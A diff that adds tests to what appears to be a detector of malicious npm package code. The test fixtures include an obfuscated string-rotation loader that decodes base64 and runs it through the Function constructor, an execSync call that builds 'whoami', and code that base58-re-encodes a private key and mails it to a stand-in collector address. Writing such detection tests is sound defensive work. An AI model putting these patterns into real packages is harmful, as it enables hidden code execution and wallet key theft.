@@ -377,3 +377,48 @@ ${req}.end([...secrets()].join('&'));`,
       expect(threatsOf(install(code))).toEqual([]);
   });
 });
+
+describe('loops on known counters, string tables rotated in place, key material re-encoded and mailed', () => {
+  const load = (files: Record<string, string>) =>
+    analyzeSource({
+      'package.json': JSON.stringify({ name: 'x', version: '1.0.0', main: 'index.js' }),
+      ...files,
+    });
+  it('a string table rotated by push(shift()) in a counter loop gives the names the obfuscator meant', () => {
+    // The table as written, then the rotation an obfuscator adds: one turn puts 'constructor' at index 1.
+    const code = `const T = ['cG9zdA==', 'from', 'constructor', 'Y29uc29sZS5sb2coMSk=', 'base64', 'toString'];
+(function (arr, n) { const r = function (c) { while (--c) { arr['push'](arr['shift']()); } }; r(++n); })(T, 1);
+function at(i) { i = i - 0x10; return T[i]; }
+const F = (function () {})[at(0x11)];
+F(Buffer[at(0x10)](T[2], at(0x13))[at(0x14)]())();`;
+    expect(load({ 'index.js': code }).evidence.map((f) => f.rule)).toContain('js.eval-decoded');
+  });
+  it('a for loop with a known bound runs its turns; an unknown bound walks the body once', () => {
+    expect(
+      commands({
+        'a.js': `const parts = ['w', 'h', 'o', 'a', 'm', 'i']; let s = '';
+for (let i = 0; i < 6; i++) s += parts[i];
+require('child_process').execSync(s);`,
+      }),
+    ).toEqual(['whoami']);
+  });
+  it('a private key re-encoded with base58 and mailed to an address written in the code', () => {
+    const r = load({
+      'index.js': `const bs58 = require('bs58');
+const mail = require('nodemailer').createTransport({ host: 'smtp.example-mail.net', port: 465 });
+exports.transfer = ({ secretKey, to }) => {
+  const raw = bs58.decode(secretKey);
+  mail.sendMail({ to: 'collector@example-mail.net', text: bs58.encode(raw) });
+  return to;
+};`,
+    });
+    expect(r.evidence.map((f) => f.rule)).toContain('js.key-material-exfil');
+  });
+  it('quiet: a mailer that sends what its caller wrote to whom its caller names', () => {
+    const r = load({
+      'index.js': `const mail = require('nodemailer').createTransport(process.env.SMTP_URL);
+exports.notify = ({ to, subject, text }) => mail.sendMail({ to, subject, text });`,
+    });
+    expect(threatsOf(r)).toEqual([]);
+  });
+});
